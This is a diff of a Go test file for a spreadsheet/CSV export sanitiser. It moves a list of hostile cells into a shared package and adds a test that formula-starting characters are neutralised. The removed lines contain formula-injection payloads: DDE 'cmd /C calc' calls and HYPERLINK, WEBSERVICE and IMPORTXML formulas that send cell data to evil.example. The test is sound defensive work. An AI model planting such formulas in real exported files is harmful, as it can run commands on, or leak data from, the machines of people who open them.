@@ -14,6 +14,7 @@ import (
 
 	"github.com/recoup-project/recoup/internal/core/cal"
 	"github.com/recoup-project/recoup/internal/core/money"
+	"github.com/recoup-project/recoup/internal/hostile"
 )
 
 var columns = []Column{{"name", Text}, {"n", Number}, {"amount", Amount}, {"day", Day}}
@@ -45,23 +46,8 @@ func TestCSV(t *testing.T) {
 	}
 }
 
-// hostile are cells that somebody would like to be run: 13 beginnings with 17 ends.
-func hostile() (cells []string) {
-	for _, begin := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "＝", "＋", "－", "＠", "=+-@"} {
-		for _, end := range []string{"1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://evil.example?x="&A1,"pay here")`,
-			`WEBSERVICE("http://evil.example")`, "SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "2+5+cmd|'/C calc'!A0",
-			"DDE(\"cmd\";\"/C calc\";\"x\")", "1;=2", "1,=2", "\"=2\"", "\n=2", "A1\"\",\"\"=B1", "'=1", " 1", "", "12.50"} {
-			cells = append(cells, begin+end)
-		}
-	}
-	return cells
-}
-
 func TestHostileCells(t *testing.T) {
-	cells := hostile()
-	if len(cells) < 200 {
-		t.Fatalf("only %d", len(cells))
-	}
+	cells := hostile.Cells()
 	var rows [][]Cell
 	for i, s := range cells {
 		rows = append(rows, []Cell{T(s), N(i), M(int64(-i), "EUR"), D(cal.Date(i))})
@@ -94,6 +80,28 @@ func TestHostileCells(t *testing.T) {
 		if got, err := f.GetCellValue("Items", at); err != nil || strings.ReplaceAll(got, "\r\n", "\n") != strings.ReplaceAll(printable(s), "\r\n", "\n") {
 			if strings.TrimSpace(got) != strings.TrimSpace(printable(s)) {
 				t.Errorf("xlsx: %q is read as %q, %v", s, got, err)
+			}
+		}
+	}
+}
+
+// TestHarmless: nothing of a text begins a formula, also where another character ends a cell,
+// and but for the quotes it is the same text.
+func TestHarmless(t *testing.T) {
+	for s, want := range map[string]string{"": "", "R-1": "R-1", "-9": "'-9", " =1": "' =1", "a;=1": "a;'=1", "a\n\n- b": "a\n\n'- b", "a\n\nb": "a\n\nb",
+		"x\";\"=2": "x\";'\"=2", "=1;=2": "'=1;'=2", "\tx": "'\tx", "5 + 3 = 8": "5 + 3 = 8", "a, b; c": "a, b; c"} {
+		if got := Harmless(s); got != want {
+			t.Errorf("%q is written %q, want %q", s, got, want)
+		}
+	}
+	for _, s := range hostile.Cells() {
+		got := Harmless(s)
+		if strings.ReplaceAll(got, "'", "") != strings.ReplaceAll(s, "'", "") {
+			t.Errorf("%q became %q", s, got)
+		}
+		for _, piece := range strings.FieldsFunc(got, func(r rune) bool { return strings.ContainsRune(";,|\t\r\n", r) }) {
+			if piece = strings.TrimLeft(piece, "\" \u00a0\ufeff\u200b\x00\x0b\u2028"); piece != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(piece)[0]) {
+				t.Errorf("%q is written %q, where %q begins a formula", s, got, piece)
 			}
 		}
 	}
